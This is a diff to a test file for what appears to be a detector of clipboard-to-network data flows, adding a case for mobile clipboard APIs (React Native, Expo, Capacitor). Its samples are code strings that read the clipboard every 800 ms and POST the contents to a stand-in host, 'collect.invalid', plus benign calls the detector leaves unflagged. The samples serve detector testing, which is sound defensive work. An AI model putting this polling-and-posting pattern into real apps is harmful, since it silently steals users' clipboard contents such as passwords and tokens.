@@ -24,6 +24,23 @@ describe('the clipboard', () => {
     assert.deepEqual(flowsOf(code), ['clipboard>network@collect.invalid']);
   });
 
+  it('is that of a phone, too', () => {
+    const code = (read: string) =>
+      `setInterval(async () => fetch('https://collect.invalid', { method: 'POST', body: ${read} }), 800);`;
+    for (const read of [
+      `await require('@react-native-clipboard/clipboard').default.getString()`,
+      `await require('react-native').Clipboard.getString()`,
+      `await require('expo-clipboard').getStringAsync()`,
+      `(await require('@capacitor/clipboard').Clipboard.read()).value`,
+    ])
+      assert.deepEqual(flowsOf(code(read)), ['clipboard>network@collect.invalid'], read);
+    for (const asked of [
+      `await require('expo-clipboard').hasStringAsync()`,
+      `require('@react-native-clipboard/clipboard').default.setString('x')`,
+    ])
+      assert.deepEqual(flowsOf(code(asked)), [], asked);
+  });
+
   it('may be given what a command line prints, or be shown', () => {
     for (const code of [
       `exports.copy = (text) => { const c = cp.spawn('pbcopy'); c.stdin.end(text); };`,
